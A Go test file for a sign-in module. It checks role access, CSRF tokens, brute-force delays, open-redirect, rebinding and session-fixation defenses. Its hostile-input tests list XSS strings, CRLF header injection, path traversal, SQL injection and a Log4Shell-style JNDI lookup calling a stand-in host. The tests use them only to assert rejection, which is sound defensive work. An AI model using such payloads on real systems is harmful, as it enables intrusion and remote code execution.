package signin_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"rideau/resolver/ops"
	"rideau/resolver/ops/access"
	"rideau/resolver/ops/access/password"
	"rideau/resolver/ops/access/signin"
)

const (
	secret = "correct horse battery"
	here   = "127.0.0.1:40000"
)

// cheap is the hash of secret, and cheap to check.
const cheap = "$argon2id$v=19$m=8192,t=1,p=1$c29tZXNhbHRzb21lc2FsdA$HhdGxmsoo8pSkWu74EOdjWuyMCjKM2aof0XQCAMO4jU"

func hash(t testing.TB, text string) password.Hash {
	t.Helper()
	h, err := password.Parse(text)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

// site is the operators' HTTP with pages to sign in, and routes for each role.
type site struct {
	guard  *access.Guard
	pages  *signin.Pages
	h      http.Handler
	now    time.Time
	mu     sync.Mutex
	events []signin.Event // guarded by mu
}

func newSite(t testing.TB, s *access.Settings) *site {
	x := &site{guard: access.NewGuard(s), now: time.Unix(1_700_000_000, 0)}
	x.pages = signin.New(signin.Options{Guard: x.guard, Clock: func() time.Time { return x.now },
		Record: func(e signin.Event) { x.mu.Lock(); defer x.mu.Unlock(); x.events = append(x.events, e) }})
	routes := x.pages.Routes()
	for role := access.Viewer; role <= access.Operator; role++ {
		for _, method := range []string{"GET", "POST"} {
			routes = append(routes, access.Route{Method: method, Path: "/for/" + role.String(), Needs: role, Page: true,
				Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					fmt.Fprintf(w, "%s|%s|%s", access.From(r.Context()).Name, access.CSRF(r.Context()), r.PostFormValue("what"))
				})})
		}
	}
	x.h = ops.New(ops.Options{Guard: x.guard, Routes: routes}).Handler()
	return x
}

func users(t testing.TB) *access.Settings {
	h := hash(t, cheap)
	return &access.Settings{Hosts: []string{"rideau.example"}, Users: []access.User{{Name: "ann", Role: access.Analyst, Hash: h}, {Name: "olive", Role: access.Operator, Hash: h}}}
}

// browser sends requests as a browser does.
type browser struct {
	site    *site
	from    string
	headers http.Header
	jar     map[string]string
}

func (x *site) browser() *browser {
	return &browser{site: x, from: here, headers: http.Header{"User-Agent": {"browser"}}, jar: map[string]string{}}
}

func (b *browser) do(method, target string, form url.Values) *httptest.ResponseRecorder {
	r := httptest.NewRequest(method, "http://127.0.0.1:5380"+target, strings.NewReader(form.Encode()))
	r.RemoteAddr = b.from
	for k, v := range b.headers {
		r.Header[k] = slices.Clone(v)
	}
	if form != nil {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	if h := b.headers.Get("Host"); h != "" {
		r.Host = h
	}
	for k, v := range b.jar {
		r.AddCookie(&http.Cookie{Name: k, Value: v})
	}
	w := httptest.NewRecorder()
	b.site.h.ServeHTTP(w, r)
	for _, c := range w.Result().Cookies() {
		if b.jar[c.Name] = c.Value; c.MaxAge < 0 {
			delete(b.jar, c.Name)
		}
	}
	return w
}

func (b *browser) signIn(name, password string) *httptest.ResponseRecorder {
	return b.do("POST", "/signin", url.Values{"name": {name}, "password": {password}, "next": {"/for/analyst?a=b"}})
}

// csrf is the text of the forms of the browser's session.
func (b *browser) csrf() string {
	parts := strings.Split(b.do("GET", "/for/analyst", nil).Body.String(), "|")
	if len(parts) != 3 {
		return ""
	}
	return parts[1]
}

// TestSignIn: who signs in sees what the role may, and no more; who signs out sees it no longer.
func TestSignIn(t *testing.T) {
	x := newSite(t, users(t))
	b := x.browser()
	if w := b.do("GET", "/for/analyst?a=b", nil); w.Code != 303 || w.Header().Get("Location") != "/signin?next=%2Ffor%2Fanalyst%3Fa%3Db" {
		t.Fatalf("%d %s", w.Code, w.Header())
	}
	if w := b.do("GET", "/signin?next=%2Ffor%2Fanalyst%3Fa%3Db", nil); w.Code != 200 || !strings.Contains(w.Body.String(), `name="next" value="/for/analyst?a=b"`) {
		t.Fatalf("%d %s", w.Code, w.Body)
	}
	if w := b.signIn("ann", secret); w.Code != 303 || w.Header().Get("Location") != "/for/analyst?a=b" {
		t.Fatalf("%d %s %s", w.Code, w.Header(), w.Body)
	}
	for path, want := range map[string]int{"/for/viewer": 200, "/for/analyst": 200, "/for/operator": 403, "/signin": 200} {
		if w := b.do("GET", path, nil); w.Code != want || want == 200 && !strings.Contains(w.Body.String(), "ann") {
			t.Errorf("%s: %d %s", path, w.Code, w.Body)
		}
	}
	if w := b.do("POST", "/signout", url.Values{}); w.Code != 403 || b.do("GET", "/for/analyst", nil).Code != 200 {
		t.Errorf("signed out without the form's text: %d", w.Code)
	}
	kept := b.jar["rideau"]
	if w := b.do("POST", "/signout", url.Values{"csrf": {b.csrf()}}); w.Code != 303 || b.jar["rideau"] != "" {
		t.Errorf("%d, cookies %v", w.Code, b.jar)
	}
	b.jar["rideau"] = kept
	if w := b.do("GET", "/for/analyst", nil); w.Code != 303 {
		t.Errorf("the old cookie is good: %d", w.Code)
	}
	var told []string
	for _, e := range x.events {
		told = append(told, fmt.Sprintf("%v %s %s %v %s %v", e.Out, e.Name, e.Way, e.Role, e.Address, e.Failed))
	}
	if want := []string{"false ann password analyst " + here + " false", "true ann password analyst " + here + " false"}; !slices.Equal(told, want) {
		t.Errorf("recorded %q", told)
	}
}

// TestCSRF: what changes something needs the session's own text and a page of this server, in a form or in a header.
func TestCSRF(t *testing.T) {
	x := newSite(t, users(t))
	b, other := x.browser(), x.browser()
	b.signIn("olive", secret)
	other.signIn("olive", secret)
	own, others := b.csrf(), other.csrf()
	for name, tt := range map[string]struct {
		form    url.Values
		headers map[string]string
		want    int
	}{
		"the form's text":              {form: url.Values{"csrf": {own}, "what": {"x"}}, want: 200},
		"in a header":                  {headers: map[string]string{"X-Csrf-Token": own}, want: 200},
		"of this site":                 {form: url.Values{"csrf": {own}}, headers: map[string]string{"Sec-Fetch-Site": "same-origin"}, want: 200},
		"none":                         {form: url.Values{"what": {"x"}}, want: 403},
		"no body":                      {want: 403},
		"of another session":           {form: url.Values{"csrf": {others}}, want: 403},
		"empty":                        {form: url.Values{"csrf": {""}}, want: 403},
		"of another site":              {form: url.Values{"csrf": {own}}, headers: map[string]string{"Sec-Fetch-Site": "cross-site"}, want: 403},
		"of another site, old":         {form: url.Values{"csrf": {own}}, headers: map[string]string{"Origin": "https://evil.example"}, want: 403},
		"of a sandbox":                 {form: url.Values{"csrf": {own}}, headers: map[string]string{"Origin": "null"}, want: 403},
		"a form that is far too large": {form: url.Values{"a": {strings.Repeat("a", 1<<20)}, "csrf": {own}}, want: 403},
	} {
		for k, v := range tt.headers {
			b.headers.Set(k, v)
		}
		w := b.do("POST", "/for/operator", tt.form)
		if w.Code != tt.want || w.Code == 200 && tt.form.Has("what") && !strings.HasSuffix(w.Body.String(), "|x") {
			t.Errorf("%s: %d %s", name, w.Code, w.Body)
		}
		for k := range tt.headers {
			b.headers.Del(k)
		}
	}
	// A sign-in that another site sends would put its own session into the browser.
	c := x.browser()
	c.headers.Set("Origin", "https://evil.example")
	if w := c.signIn("ann", secret); w.Code != 403 || len(c.jar) != 0 {
		t.Errorf("a sign-in by another site: %d %v", w.Code, c.jar)
	}
}

// TestBruteForce: guesses of one network wait longer and longer, whatever name they are for; a user elsewhere is in at once.
func TestBruteForce(t *testing.T) {
	x := newSite(t, users(t))
	a := x.browser()
	a.headers.Set("X-Forwarded-For", "198.51.100.1, 192.0.2.66") // a proxy on this machine adds the last one
	codes := map[int]int{}
	for i := range 12 {
		w := a.signIn([]string{"ann", "nobody", "olive"}[i%3], fmt.Sprint("a wrong password ", i))
		codes[w.Code]++
		if w.Code == 429 && w.Header().Get("Retry-After") == "" {
			t.Error("no Retry-After")
		}
	}
	if codes[401] != 4 || codes[429] != 8 {
		t.Errorf("%v", codes)
	}
	if w := a.signIn("ann", secret); w.Code != 429 {
		t.Errorf("the right password while it waits: %d", w.Code)
	}
	v := x.browser()
	v.headers.Set("X-Forwarded-For", "203.0.113.5")
	if w := v.signIn("ann", secret); w.Code != 303 {
		t.Errorf("the user: %d", w.Code)
	}
	x.now = x.now.Add(2 * time.Second)
	if w := a.signIn("ann", secret); w.Code != 303 {
		t.Errorf("after the wait: %d %s", w.Code, w.Body)
	}
	// A name that nobody has is not recorded: it may be a password.
	for _, e := range x.events {
		if e.Failed && e.Name != "ann" && e.Name != "olive" && e.Name != "" {
			t.Errorf("recorded %+v", e)
		}
	}
}

// TestFloodOfFailures: a flood of attempts that fail is a few records, and the next one counts the others.
func TestFloodOfFailures(t *testing.T) {
	x := newSite(t, users(t))
	b := x.browser()
	b.headers.Set("Origin", "https://evil.example")
	for range 1000 {
		b.signIn("ann", secret)
	}
	if len(x.events) != 10 {
		t.Errorf("%d records", len(x.events))
	}
	x.now = x.now.Add(10 * time.Second)
	b.signIn("ann", secret)
	b.signIn("ann", secret)
	if len(x.events) != 11 || !strings.HasSuffix(x.events[10].Reason, "(990 more sign-ins failed before this one)") {
		t.Errorf("%d records, the last %+v", len(x.events), x.events[len(x.events)-1])
	}
	b.headers.Del("Origin")
	if b.signIn("ann", secret); len(x.events) != 12 || x.events[11].Failed {
		t.Error("a sign-in that succeeds is not recorded")
	}
}

// TestHostileNames: whatever is typed as a name or as a password, the answer is that of a wrong one, and tells nothing of it.
func TestHostileNames(t *testing.T) {
	for _, s := range []string{"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "a\x00b", "a\x1b[2Jb", "a\r\nSet-Cookie: x=y", "\u202eann", "\xff\xfe", strings.Repeat("A", 10_000),
		"../../etc/passwd", "ann ", " ann", "ANN", "", "${jndi:ldap://evil.example/a}", "' OR 1=1 --"} {
		x := newSite(t, &access.Settings{Users: users(t).Users})
		for _, form := range [][2]string{{s, secret}, {"ann", s}} {
			w := x.browser().signIn(form[0], form[1])
			if w.Code != 401 || len(w.Result().Cookies()) > 0 {
				t.Errorf("%.40q: %d", form, w.Code)
			}
			if body := w.Body.String(); len(s) > 4 && strings.TrimSpace(s) != "ann" && strings.Contains(body, s) || strings.Contains(body, "<script") || !strings.Contains(body, "The name or the password is wrong.") {
				t.Errorf("%.40q is in the page", s)
			}
		}
		for _, e := range x.events {
			if e.Name != "" && e.Name != "ann" {
				t.Errorf("recorded %+v", e)
			}
		}
	}
}

// TestHostileNext: wherever the address says to go, the browser stays on this server.
func TestHostileNext(t *testing.T) {
	x := newSite(t, users(t))
	for _, next := range []string{"https://evil.example/", "//evil.example/", `/\evil.example`, "javascript:alert(1)", "/\r\nX: y", "%2f%2fevil.example"} {
		w := x.browser().do("POST", "/signin", url.Values{"name": {"ann"}, "password": {secret}, "next": {next}})
		if w.Code != 303 || w.Header().Get("Location") != "/" {
			t.Errorf("%q: %d %q", next, w.Code, w.Header().Get("Location"))
		}
	}
}

// TestPlainText: no password over HTTP from another machine, and no form that asks for one. Over TLS there is.
func TestPlainText(t *testing.T) {
	x := newSite(t, users(t))
	b := x.browser()
	b.from = "192.0.2.7:1024"
	if w := b.do("GET", "/signin", nil); w.Code != 200 || strings.Contains(w.Body.String(), `type="password"`) || !strings.Contains(w.Body.String(), "https") {
		t.Errorf("%d %s", w.Code, w.Body)
	}
	if w := b.signIn("ann", secret); w.Code != 403 || len(b.jar) > 0 {
		t.Errorf("%d", w.Code)
	}
}

// TestRebinding: the pages are not shown under a name that anybody can point here, and are under one that is configured.
func TestRebinding(t *testing.T) {
	x := newSite(t, users(t))
	for host, want := range map[string]int{"evil.example": 403, "evil.example:5380": 403, "rideau.example": 200, "127.0.0.1:5380": 200, "127.0.0.1.evil.example": 403} {
		b := x.browser()
		b.headers.Set("Host", host)
		if w := b.do("GET", "/signin", nil); w.Code != want {
			t.Errorf("%s: %d", host, w.Code)
		}
		b.headers.Del("Host")
		b.signIn("ann", secret)
		b.headers.Set("Host", host)
		if w := b.do("GET", "/for/analyst", nil); w.Code != want {
			t.Errorf("%s with a session: %d", host, w.Code)
		}
	}
}

// TestSettingsChange: a role that changes holds for sessions; a user who is gone or has another password is signed out, and what the
// session still reads ends.
func TestSettingsChange(t *testing.T) {
	s := users(t)
	x := newSite(t, s)
	ann, olive := x.browser(), x.browser()
	ann.signIn("ann", secret)
	olive.signIn("olive", secret)
	r := httptest.NewRequest("GET", "http://127.0.0.1/for/viewer", nil)
	r.RemoteAddr = here
	r.Header.Set("User-Agent", "browser")
	r.AddCookie(&http.Cookie{Name: "rideau", Value: olive.jar["rideau"]})
	stream, _ := x.guard.Admit(r, false)

	lower := *s
	lower.Users = []access.User{s.Users[0], {Name: "olive", Role: access.Viewer, Hash: s.Users[1].Hash}}
	if ended := x.guard.Use(&lower); len(ended) != 0 {
		t.Errorf("%d sessions ended", len(ended))
	}
	if w := olive.do("GET", "/for/viewer", nil); w.Code != 200 {
		t.Errorf("%d", w.Code)
	}
	if w := olive.do("GET", "/for/analyst", nil); w.Code != 403 {
		t.Errorf("with a lower role: %d", w.Code)
	}
	other := lower
	other.Users = []access.User{{Name: "olive", Role: access.Operator, Hash: password.Nobody()}}
	if stream.Context().Err() != nil {
		t.Error("the stream of a session ended")
	}
	x.pages.Ended(x.guard.Use(&other))
	for name, b := range map[string]*browser{"ann": ann, "olive": olive} {
		if w := b.do("GET", "/for/analyst", nil); w.Code != 303 {
			t.Errorf("%s is signed in: %d", name, w.Code)
		}
	}
	<-stream.Context().Done()
	var out []string
	for _, e := range x.events[2:] {
		out = append(out, fmt.Sprint(e.Out, " ", e.Name))
	}
	if slices.Sort(out); !slices.Equal(out, []string{"true ann", "true olive"}) {
		t.Errorf("recorded %q", out)
	}
}

// TestFixation: a cookie that somebody planted is no session, before and after the sign-in.
func TestFixation(t *testing.T) {
	x := newSite(t, users(t))
	b := x.browser()
	planted := strings.Repeat("A", 43)
	b.jar["rideau"], b.jar["__Host-rideau"] = planted, planted
	b.signIn("ann", secret)
	if b.jar["rideau"] == planted {
		t.Error("the planted cookie stays")
	}
	attacker := x.browser()
	attacker.jar["rideau"] = planted
	if w := attacker.do("GET", "/for/analyst", nil); w.Code != 303 {
		t.Errorf("%d", w.Code)
	}
}

// TestPage: the page is in the language of the browser, has labels and nothing inline, and says what happened.
func TestPage(t *testing.T) {
	x := newSite(t, users(t))
	for lang, want := range map[string][]string{"en": {"Sign in", "User name", "The name or the password is wrong."}, "fr": {"Ouvrir une session", "Nom d’utilisateur", "Le nom ou le mot de passe est incorrect."}} {
		b := x.browser()
		b.headers.Set("Accept-Language", lang+"-CA")
		w := b.signIn("ann", "a wrong password")
		body := w.Body.String()
		for _, s := range append(want, `<html lang="`+lang+`">`, `<label for="name">`, `<label for="password">`, `role="alert"`, `autocomplete="current-password"`) {
			if !strings.Contains(body, s) {
				t.Errorf("%s: no %s in\n%s", lang, s, body)
			}
		}
		for _, s := range []string{"<script", "style=", "<style", "onclick", "http://", "https://", "a wrong password"} {
			if strings.Contains(body, s) {
				t.Errorf("%s: %s in\n%s", lang, s, body)
			}
		}
		h := w.Header()
		for k, s := range map[string]string{"Content-Security-Policy": "frame-ancestors 'none'", "Referrer-Policy": "no-referrer", "X-Content-Type-Options": "nosniff", "Cache-Control": "no-store",
			"Content-Language": lang, "Cross-Origin-Opener-Policy": "same-origin"} {
			if !strings.Contains(h.Get(k), s) {
				t.Errorf("%s: %s", k, h.Get(k))
			}
		}
		if csp := h.Get("Content-Security-Policy"); !strings.HasPrefix(csp, "default-src 'none'") || strings.Contains(csp, "unsafe") {
			t.Error(csp)
		}
	}
	// Nobody can sign in where nobody is configured.
	if w := newSite(t, new(access.Settings)).browser().do("GET", "/signin", nil); w.Code != 200 || strings.Contains(w.Body.String(), "<form") || !strings.Contains(w.Body.String(), "Nobody can sign in") {
		t.Errorf("%d %s", w.Code, w.Body)
	}
}
